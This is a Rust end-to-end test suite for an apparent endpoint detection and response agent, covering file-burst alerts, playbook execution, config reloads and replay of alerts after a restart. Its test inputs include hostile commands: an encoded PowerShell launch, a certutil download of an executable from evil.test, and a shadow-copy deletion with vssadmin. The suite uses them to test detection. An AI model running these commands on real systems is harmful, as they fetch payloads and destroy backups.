//! End-to-end: raw sensor records in, queued alerts and executed actions out.

use std::path::PathBuf;
use std::sync::Arc;

use parking_lot::Mutex;
use rand::RngCore;
use tempfile::TempDir;
use tokio::sync::Notify;

use super::{Pipeline, PipelineParts};
use crate::logic::config::types::{AgentConfig, OutboundMode};
use crate::logic::config::{build_snapshot, ConfigHandle};
use crate::logic::detection::{Alert, AlertSequence, Finding, Severity};
use crate::logic::events::NotificationBus;
use crate::logic::playbook::ledger::Ledger;
use crate::logic::playbook::types::{ActionKind, ActionSpec, Playbook, Triggers};
use crate::logic::playbook::PlaybookEngine;
use crate::logic::response::actions::tests::MockPlatform;
use crate::logic::response::actions::ActionExecutor;
use crate::logic::response::file_quarantine::QuarantineManager;
use crate::logic::store::Store;
use crate::logic::telemetry::event::{Event, EventKind};
use crate::logic::telemetry::normalizer::{FileOp, Normalizer, RawSensorEvent};
use crate::logic::transport::{AlertSink, Outbox, WirePayload};

const DESKTOP: &str = "/home/user/Desktop";

struct Harness {
    dir: TempDir,
    config: Arc<ConfigHandle>,
    store: Arc<Store>,
    platform: Arc<MockPlatform>,
    bus: NotificationBus,
    ids: Arc<AlertSequence>,
}

impl Harness {
    fn new(threshold: u32, playbooks: Vec<Playbook>, republish: bool) -> Self {
        Self::with_store(Arc::new(Store::open_in_memory().unwrap()), threshold, playbooks, republish)
    }

    fn with_store(store: Arc<Store>, threshold: u32, playbooks: Vec<Playbook>, republish: bool) -> Self {
        let mut config = AgentConfig::default();
        config.detection.watch_paths = vec![PathBuf::from(DESKTOP)];
        config.detection.file_burst_threshold_per_sec = threshold;
        config.outbound.mode = OutboundMode::Https;
        config.outbound.https.url = "https://collector.test/api/v1/ingest".into();
        config.response.notify_republish = republish;
        config.playbooks = playbooks;
        let snapshot = build_snapshot(config, None, b"k".to_vec(), 1).unwrap();

        Self {
            dir: TempDir::new().unwrap(),
            config: Arc::new(ConfigHandle::from_snapshot(snapshot)),
            ids: Arc::new(AlertSequence::new(store.clone())),
            store,
            platform: Arc::new(MockPlatform::default()),
            bus: NotificationBus::new(16),
        }
    }

    fn outbox(&self) -> Outbox {
        Outbox::new(self.store.clone())
    }

    fn sink(&self) -> AlertSink {
        AlertSink::new(self.outbox(), "ws-1", Arc::new(Notify::new()))
    }

    fn start(&self) -> Pipeline {
        let qdir = self.dir.path().join("quarantine");
        let executor = ActionExecutor::new(
            self.platform.clone(),
            Arc::new(Mutex::new(QuarantineManager::new(qdir.clone()).unwrap())),
            self.bus.clone(),
        );
        Pipeline::start(PipelineParts {
            config: self.config.clone(),
            ids: self.ids.clone(),
            soar: Arc::new(PlaybookEngine::new(
                Ledger::new(self.store.clone()),
                Arc::new(executor),
            )),
            sink: self.sink(),
            normalizer: Normalizer::with_host("ws-1", qdir),
        })
        .unwrap()
    }

    /// Queued alerts, oldest first
    fn queued(&self) -> Vec<WirePayload> {
        self.outbox()
            .head(i64::MAX, 1000)
            .unwrap()
            .iter()
            .map(|e| serde_json::from_slice(&e.payload).unwrap())
            .collect()
    }
}

fn playbook(name: &str, min: Severity, kind: ActionKind) -> Playbook {
    Playbook {
        name: name.into(),
        triggers: Triggers {
            min_severity: Some(min),
            ..Default::default()
        },
        actions: vec![ActionSpec::new(kind)],
    }
}

fn file_create(i: usize) -> RawSensorEvent {
    RawSensorEvent::FileSystem {
        op: FileOp::Create,
        path: PathBuf::from(format!("{}/doc_{}.txt", DESKTOP, i)),
        old_path: None,
        content_sample: None,
        pid: Some(900),
        process_name: Some("writer.exe".into()),
    }
}

#[test]
fn test_scenario_file_burst_on_desktop() {
    let h = Harness::new(120, Vec::new(), false);
    let pipeline = h.start();
    let sensor = pipeline.sensor_handle();
    for i in 0..250 {
        assert!(sensor.submit(file_create(i)));
    }
    drop(sensor);
    let report = pipeline.shutdown();

    assert_eq!(report.detection.events, 250);
    let queued = h.queued();
    assert_eq!(queued.len(), 1);
    assert_eq!(queued[0].severity, "WARNING");
    assert!(queued[0].score >= 60);
    assert_eq!(queued[0].event_type, "file");
}

#[test]
fn test_scenario_encoded_powershell_runs_notify_playbook() {
    let h = Harness::new(
        120,
        vec![playbook("notify-soc", Severity::Warning, ActionKind::Notify { message: None })],
        false,
    );
    let mut rx = h.bus.subscribe();
    let pipeline = h.start();
    pipeline.sensor_handle().submit(RawSensorEvent::ProcessStart {
        pid: 4242,
        parent_pid: Some(1),
        name: "powershell.exe".into(),
        command_line: "powershell -enc ZXZpbA==".into(),
        elevated: false,
    });
    let report = pipeline.shutdown();
    assert_eq!(report.responses, 1);

    let queued = h.queued();
    assert_eq!(queued.len(), 1);
    assert!(queued[0].indicators.iter().any(|t| t == "lolbin"));
    let notification = rx.try_recv().unwrap();
    assert_eq!(notification.alert_id, queued[0].id);
    let ledger = Ledger::new(h.store.clone());
    assert!(ledger.playbook_completed(queued[0].id, "notify-soc").unwrap());
    assert!(ledger.deferred_responses().unwrap().is_empty());
}

#[test]
fn test_encrypted_rename_is_contained_synchronously() {
    let h = Harness::new(
        120,
        vec![playbook("kill-encryptor", Severity::Critical, ActionKind::KillProcess { pid: None })],
        false,
    );
    let mut content = vec![0u8; 64 * 1024];
    rand::thread_rng().fill_bytes(&mut content);

    let pipeline = h.start();
    pipeline.sensor_handle().submit(RawSensorEvent::FileSystem {
        op: FileOp::Rename,
        path: PathBuf::from(format!("{}/budget.xlsx.wncry", DESKTOP)),
        old_path: Some(PathBuf::from(format!("{}/budget.xlsx", DESKTOP))),
        content_sample: Some(content),
        pid: Some(6666),
        process_name: Some("tasksche.exe".into()),
    });
    let report = pipeline.shutdown();

    // Handled on the detection worker, never queued for the response worker
    assert_eq!(report.responses, 0);
    assert_eq!(*h.platform.kills.lock(), vec![6666]);
    let queued = h.queued();
    assert!(queued.iter().any(|a| a.severity == "CRITICAL" && a.score >= 90));
}

#[test]
fn test_malformed_records_are_counted_not_forwarded() {
    let h = Harness::new(120, Vec::new(), false);
    let pipeline = h.start();
    let sensor = pipeline.sensor_handle();
    assert!(!sensor.submit(RawSensorEvent::ProcessStart {
        pid: 0,
        parent_pid: None,
        name: String::new(),
        command_line: String::new(),
        elevated: false,
    }));
    assert!(!sensor.submit(RawSensorEvent::FileSystem {
        op: FileOp::Create,
        path: h.dir.path().join("quarantine").join("q.bin"),
        old_path: None,
        content_sample: None,
        pid: None,
        process_name: None,
    }));
    let stats = sensor.stats();
    assert_eq!(stats.malformed, 1);
    assert_eq!(stats.filtered, 1);
    drop(sensor);

    let report = pipeline.shutdown();
    assert_eq!(report.detection.events, 0);
    assert!(h.queued().is_empty());
}

#[test]
fn test_unscoreable_event_reaches_the_collector_as_info() {
    let h = Harness::new(120, Vec::new(), false);
    let pipeline = h.start();
    // Source vanished before it could be sampled
    pipeline.sensor_handle().submit(RawSensorEvent::FileSystem {
        op: FileOp::Rename,
        path: h.dir.path().join("gone.docx"),
        old_path: Some(h.dir.path().join("gone.tmp")),
        content_sample: None,
        pid: None,
        process_name: None,
    });
    let report = pipeline.shutdown();

    assert_eq!(report.detection.unscored, 1);
    let queued = h.queued();
    assert_eq!(queued.len(), 1);
    assert_eq!(queued[0].severity, "INFO");
    assert_eq!(queued[0].name, "unscored_event");
}

#[test]
fn test_reloaded_threshold_applies_to_later_events() {
    let h = Harness::new(500, Vec::new(), false);
    let pipeline = h.start();
    let sensor = pipeline.sensor_handle();

    let mut config = h.config.current().config.clone();
    config.detection.file_burst_threshold_per_sec = 20;
    h.config.swap(build_snapshot(config, None, b"k".to_vec(), 0).unwrap());

    for i in 0..50 {
        sensor.submit(file_create(i));
    }
    drop(sensor);
    pipeline.shutdown();

    let queued = h.queued();
    assert_eq!(queued.len(), 1);
    assert_eq!(queued[0].name, "file_burst");
}

#[test]
fn test_notifications_republished_as_follow_up_alerts() {
    let h = Harness::new(
        120,
        vec![playbook("notify-soc", Severity::Warning, ActionKind::Notify { message: None })],
        true,
    );
    let republisher =
        super::spawn_republisher(&h.bus, h.sink(), h.ids.clone(), h.config.clone()).unwrap();

    let pipeline = h.start();
    pipeline.sensor_handle().submit(RawSensorEvent::ProcessStart {
        pid: 77,
        parent_pid: None,
        name: "cmd.exe".into(),
        command_line: "cmd /c certutil -urlcache -f http://evil.test/a.exe a.exe".into(),
        elevated: false,
    });
    pipeline.shutdown();

    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while h.queued().len() < 2 && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    drop(republisher);

    let queued = h.queued();
    assert_eq!(queued.len(), 2);
    let follow_up = &queued[1];
    assert_eq!(follow_up.severity, "INFO");
    assert_eq!(follow_up.name, "playbook_notification");
    assert_eq!(follow_up.signals["source_alert_id"], queued[0].id);
}

#[test]
fn test_external_log_feed_is_scored() {
    use crate::logic::sensors::{feed, StopSignal};

    let h = Harness::new(120, Vec::new(), false);
    let pipeline = h.start();
    let lines = concat!(
        r#"{"sensor":"security_log","event_id":1,"provider":"cmd","message":"vssadmin delete shadows /all /quiet"}"#,
        "\n",
        "{broken\n",
    );
    let stats = feed::pump(
        std::io::Cursor::new(lines),
        &pipeline.sensor_handle(),
        &StopSignal::default(),
        "test",
    );
    assert_eq!(stats.accepted, 1);
    assert_eq!(stats.unparsable, 1);
    pipeline.shutdown();

    let queued = h.queued();
    assert_eq!(queued.len(), 1);
    assert_eq!(queued[0].subtype, "vss_delete");
    assert_eq!(queued[0].severity, "ERROR");
}

#[test]
fn test_feed_survives_a_line_that_is_not_utf8() {
    use crate::logic::sensors::{feed, StopSignal};

    let h = Harness::new(120, Vec::new(), false);
    let pipeline = h.start();
    let mut bytes = b"\xff\xfe garbage\n".to_vec();
    bytes.extend_from_slice(
        br#"{"sensor":"security_log","event_id":1,"provider":"cmd","message":"vssadmin delete shadows /all /quiet"}"#,
    );
    bytes.push(b'\n');
    let stats = feed::pump(
        std::io::Cursor::new(bytes),
        &pipeline.sensor_handle(),
        &StopSignal::default(),
        "test",
    );
    assert_eq!(stats.lines, 2);
    assert_eq!(stats.unparsable, 1);
    assert_eq!(stats.accepted, 1);
    pipeline.shutdown();

    let queued = h.queued();
    assert_eq!(queued.len(), 1);
    assert_eq!(queued[0].subtype, "vss_delete");
}

#[test]
fn test_parked_alert_is_replayed_once_after_restart() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("agent.db");
    let playbooks = || vec![playbook("notify-soc", Severity::Warning, ActionKind::Notify { message: None })];

    // Queued for the collector and parked, then the agent died before the response worker ran
    {
        let h = Harness::with_store(Arc::new(Store::open(&path).unwrap()), 120, playbooks(), false);
        let event = Event::new(EventKind::Log, "service_install", "ws-1");
        let alert = Alert::from_finding(
            h.ids.next_id(),
            event.summary(),
            Finding::new(Severity::Warning, 55, "service_install", "New service installed".into()),
        );
        assert!(h
            .sink()
            .submit_with(&alert, |conn| Ledger::defer_response(conn, &alert))
            .unwrap());
    }

    let h = Harness::with_store(Arc::new(Store::open(&path).unwrap()), 120, playbooks(), false);
    assert_eq!(Ledger::new(h.store.clone()).deferred_responses().unwrap().len(), 1);
    let mut rx = h.bus.subscribe();

    let report = h.start().shutdown();
    assert_eq!(report.responses, 1);
    assert!(rx.try_recv().is_ok());
    assert!(Ledger::new(h.store.clone()).deferred_responses().unwrap().is_empty());

    // A second start finds nothing left to replay
    let report = h.start().shutdown();
    assert_eq!(report.responses, 0);
    assert!(rx.try_recv().is_err());
    assert_eq!(h.queued().len(), 1);
}
